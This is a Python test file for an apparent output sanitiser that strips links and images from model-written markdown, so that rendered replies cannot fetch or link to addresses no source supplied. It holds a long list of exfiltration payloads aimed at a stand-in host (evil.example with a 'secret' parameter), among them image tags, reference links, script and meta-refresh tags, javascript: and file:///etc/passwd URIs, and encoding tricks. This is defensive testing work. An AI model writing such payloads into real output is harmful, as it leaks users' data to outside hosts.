"""Row R10: nothing that a model writes makes a renderer fetch, or a reader click, an address that no source has."""

from __future__ import annotations

import re
import time
from collections.abc import AsyncGenerator, Iterator, Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orchestra.errors import StreamTruncated
from orchestra.model.messages import FinishReason, Piece, Reply, gathered
from orchestra.retrieval import links
from orchestra.retrieval.links import linkless, without_links
from orchestra.runtime import finish

OWN = "https://source.example/page?id=1"
EVIL = "https://evil.example/x?secret=42"
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
# what renderers turn into a link without any mark-up (GitHub Flavored Markdown, section 6.9)
BARE = re.compile(r"(?:https?|ftp)://\S+|(?<![\w.])www\.\S+|(?<![:\w/])//\w+", re.IGNORECASE)
PUNCTUATION = re.compile(r"[^\w/=]+\Z|[。，].*\Z")


def tokens(parsed: Sequence[Token]) -> Iterator[Token]:
    for token in parsed:
        yield token
        yield from tokens(token.children or ())


def foreign(text: str, own: Sequence[str] = (OWN,)) -> list[str]:
    """What a renderer would fetch or make a link of, but for `own`."""
    found: list[str] = []
    for token in tokens(RENDERER.parse(text)):
        if token.type == "image" or token.type.startswith("html"):
            found.append(f"{token.type} {token.content} {token.attrs}")
        elif token.type == "link_open" and token.attrs["href"] not in own:
            found.append(f"link {token.attrs['href']}")
        elif token.type == "text":
            found += [address for address in BARE.findall(token.content) if PUNCTUATION.sub("", address) not in own]
    return found


HOSTS = [EVIL, "http://evil.example/a.png", "HTTPS://EVIL.example/x", "//evil.example/x", "https://source.example.evil.example/",
         "https://source.example@evil.example/", "https://source.example/page?id=1&leak=2", "https://evil.example/a_(b)"]  # fmt: skip
SHAPES = [
    "[label]({})", "![alt]({})", "[label](<{}>)", '![alt]({} "a title")', "[label](\n{}\n)", "![a\nb]({})", "[![x]({})](" + OWN + ")", "see {} now",
    "<{}>", '<a href="{}">x</a>', "<img src='{}'>", "<img\nsrc={}\n>", "**{}**", "| a | b |\n|---|---|\n| {} | x |",
]  # fmt: skip
MORE = [
    f"[a][r]\n\n[r]: {EVIL}", f"![a][r]\n\n[r]: <{EVIL}>", f"[r]\n\n[r]:\n{EVIL}", f"![r][]\n\n  [r]: {EVIL} 'title'", f"> [r]: {EVIL}\n\n![r]",
    f"- [r]: {EVIL}\n\n![r]", f"[a\\]b]: {EVIL}\n\n[a\\]b]", f"<script src={EVIL}></script>", f"<iframe src='{EVIL}'>", f"<link rel=x href={EVIL}>",
    f"<style>@import '{EVIL}'</style>", f"<svg><image href='{EVIL}'/></svg>", f"<video poster={EVIL}>", f"<object data={EVIL}>",
    f"<form action={EVIL}><input>", f"<meta http-equiv=refresh content='0;{EVIL}'>", f"<base href={EVIL}>", f"<IMG SRC={EVIL}>",
    f"<b>\n```\n<img src={EVIL}>\n```\n", f"<p>\n```\n<img src={EVIL}>\n```\n", f"<!-- --><img src={EVIL}>", f"<?x?><img src={EVIL}>",
    "[a](javascript:alert(1))", "[a](data:text/html;base64,AAAA)", "![a](data:image/png;base64,AAAA)", "[a](vbscript:x)", "[a](file:///etc/passwd)",
    "[a](/relative)", "[a](#fragment)", "[a](mailto:a@evil.example)", "<mailto:a@evil.example>", "<a@evil.example>", "<javascript:alert(1)>",
    "[a](&#104;ttps://evil.example)", "![a](&#x68;ttps://evil.example)", "![a](https&colon;//evil.example)", "&#60;img src=x&#62;",
    "![a](https:\\/\\/evil.example)", "https\\://evil.example/x", f"a ` b {EVIL}", f"a ` b\nc `{EVIL}` d", f"`` a ` b {EVIL} `", f"\\`{EVIL}`",
    f"\\``{EVIL}``", f"- a\n  ```\n<img src={EVIL}>\n", f"> ```\n<img src={EVIL}>\n", f"``` a`b\n![x]({EVIL})\n", f"~~~\n~~~ a\n~~~\n![x]({EVIL})",
    f"~~~ ~~~\n![x]({EVIL})\n~~~\n![y]({EVIL})", f"```\ncode\n```` \n![x]({EVIL})", f"```\n    ```\n```\n![x]({EVIL})", f"    ```\n![x]({EVIL})",
    f"\t```\n![x]({EVIL})", f"| `a | b {EVIL}` |\n|---|---|\n| c | `d |", f"{OWN}\"?leak=42", f"{OWN})?leak=42", f"x{OWN}`?leak=42`",
    f"1. a\n   ```\n   b\n```\n![x]({EVIL})\n", "!" + "[" * 50 + f"a]({EVIL})", f"[a]({OWN}) [b]({EVIL}) ![c]({OWN})", f"![c]({OWN})", f"``\n![x]({EVIL})\n``",
    f"`\\`![x]({EVIL})`", f"`a`{EVIL}`b`", f"`a`\\`{EVIL}`", "www.evil.example/x", "(www.evil.example)", f"看{EVIL}。", f"参见（{EVIL}）", "ftp://evil.example/x",
]  # fmt: skip
PAYLOADS = [shape.format(host) for shape in SHAPES for host in HOSTS] + MORE


def test_there_are_payloads_enough_and_they_would_work() -> None:
    assert len(PAYLOADS) >= 100
    assert sum(bool(foreign(payload)) for payload in PAYLOADS) >= 0.8 * len(PAYLOADS)


def test_no_payload_passes() -> None:
    assert [(payload, shown) for payload in PAYLOADS if foreign(shown := without_links(payload, [OWN]))] == []


def test_no_payload_passes_where_there_are_no_sources() -> None:
    assert [(payload, shown) for payload in PAYLOADS if foreign(shown := without_links(payload), own=())] == []


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_the_size_of_the_pieces_makes_no_difference(size: int) -> None:
    for payload in PAYLOADS:
        parts = [payload[place : place + size] for place in range(0, len(payload), size)]
        assert streamed(parts) == without_links(payload, [OWN]), payload


PARTS = ["`", "``", "```", "~~~", "\n", "\n\n", " ", "![", "[", "]", "](", "](" + EVIL + ")", EVIL, OWN, "](" + OWN + ")", "]: ", "<img src=http://e.example>", "<",
         ">", "\\", "|", "- ", "> ", "1. ", "    ", "a", "的", "。", "www.e.example", "&#60;", "&amp;", ")", "(", "!", "*", "//e.example", "http", "s://e.example"]  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=14), st.integers(0, 60))
def test_whatever_is_put_together_has_no_links(parts: list[str], place: int) -> None:
    text = "".join(parts)
    shown = without_links(text, [OWN])
    assert foreign(shown) == []
    assert streamed([text[:place], text[place:]]) == shown


# --- what stays


@pytest.mark.parametrize(
    "text",
    [
        "Paris is the capital of France [1]. It has 2.1 million inhabitants [2][3].",
        "巴黎是法国的首都[1]。人口为 210 万【2】！",
        "Use `curl http://localhost:11434/api/tags` and `a[1](b)`.",
        "```python\nprint('<img src=\"https://a.example\">')  # [a](https://a.example)\n```\nDone.",
        "~~~\nhttps://a.example\n~~~\n",
        "1 < 2, a && b, AT&T, &amp; &lt; e.g. 3.5 km/h and/or either",
        f"See [the page]({OWN}) or {OWN} for more.",
        "# Heading\n\n- item *one*\n- item **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "",
        "`",
    ],
)
def test_what_is_no_foreign_link_stays_as_it_is(text: str) -> None:
    assert without_links(text, [OWN]) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://example.org/a)", "[click] (`example.org/a`)"),
        ("![](https://example.org/a.png)", "! [] (`example.org/a.png`)"),
        ("Read https://example.org/a.", "Read `example.org/a`."),
        ("<b>x</b>", "< b>x< /b>"),
        ("参见https://example.org/甲。", "参见`example.org/甲`。"),
        ("[a](HTTPS://Source.example/page?id=1#part)", f"[a]({OWN})"),
        (f"见{OWN}&utm_source=42。", f"见{OWN} 。"),
        ("a ` b http://example.org", "a ` b ``example.org``"),
    ],
)
def test_how_a_foreign_link_is_shown(text: str, shown: str) -> None:
    assert without_links(text, [OWN]) == shown


# --- as a stage of the stream


def streamed(parts: Sequence[str]) -> str:
    return gathered(drained([Piece(part) for part in parts])).text


def drained(pieces: Sequence[Piece | Exception]) -> list[Piece]:
    async def given() -> AsyncGenerator[Piece]:
        for piece in pieces:
            if isinstance(piece, Exception):
                raise piece
            yield piece

    got: list[Piece] = []

    async def read() -> None:
        async for piece in linkless(given(), sources=[OWN]):
            got.append(piece)

    try:
        finish(read())
    except StreamTruncated as error:
        got.append(Piece("", value=error.reply and error.reply.text))
    return got


@pytest.mark.parametrize("text", ["The capital of France is Paris [1].", "法国的首都是巴黎[1]。", "He will help them, data and facts first."])
def test_text_without_links_hardly_waits(text: str) -> None:
    shown = ""
    for piece in drained([Piece(letter) for letter in text]):
        shown += piece.text
    waits = [len(text[:n]) - len("".join(p.text for p in drained([Piece(c) for c in text[:n]])[:n])) for n in range(len(text))]
    assert shown == text
    assert max(waits) <= 4


def test_what_is_kept_is_counted_in_what_is_shown() -> None:
    last = Piece("https://e.example/b b b", finish_reason=FinishReason.REPETITION, keep=len("[a](https://e.example/a) and "))
    pieces = drained([Piece("hm", "thinking"), Piece("[a](https://e.example/a) "), Piece("and "), last])
    assert gathered(pieces).text == "[a] (`e.example/a`) and "
    assert gathered(pieces).thinking == "hm"


def test_an_answer_goes_on_where_it_was_cut() -> None:
    text = "[a](https://e.example/a) and and and htt"
    pieces = [Piece(text), Piece("", keep=len("[a](https://e.example/a) and ")), Piece("![b](https://e.example/b)"),
              Piece("", finish_reason=FinishReason.STOP)]  # fmt: skip
    assert gathered(drained(pieces)).text == "[a] (`e.example/a`) and ! [b] (`e.example/b`)"


def test_text_before_a_fault_is_shown_and_its_reply_has_no_links() -> None:
    reply = Reply(text=f"see {EVIL}", finish_reason=FinishReason.INCOMPLETE)
    pieces = drained([Piece("see "), Piece(EVIL), StreamTruncated(reply=reply)])
    assert "".join(piece.text for piece in pieces) == "see `evil.example/x?secret=42`" == pieces[-1].value


@pytest.mark.parametrize("unit", ["`", "[", "](", "<", "http://", "![a](http://a ", "&#", "```\n", "~", "//", "\\", "!", "data:", "www.", "` a", "``a`"])
def test_it_takes_time_in_proportion(unit: str) -> None:
    def seconds(size: int) -> float:
        text = unit * (size // len(unit))
        started = time.process_time()
        without_links(text, [OWN])
        drained([Piece(text[place : place + 4]) for place in range(0, len(text) // 8, 4)])
        drained([Piece(letter) for letter in text[:3000]])
        return time.process_time() - started

    assert seconds(40_000) < 5


@pytest.mark.parametrize(
    ("name", "broken"),
    [
        ("_SPECIAL", re.compile("(?P<code>`+)")),
        ("_PLAIN_ENTITY", re.compile("&[^;]*;")),
        ("LONGEST_SPAN", 0),
        ("_FENCE", re.compile(r" {0,9}(`{3,})[^\n]*\n| {0,9}(~{3,})[^\n]*\n")),
    ],
)
def test_red_control_each_guard_decides(monkeypatch: pytest.MonkeyPatch, name: str, broken: Any) -> None:
    monkeypatch.setattr(links, name, broken)
    changed = [payload for payload in PAYLOADS if foreign(without_links(payload, [OWN]))]
    code = "Use `curl http://localhost:11434/api/tags` here."
    assert changed or without_links(code) != code
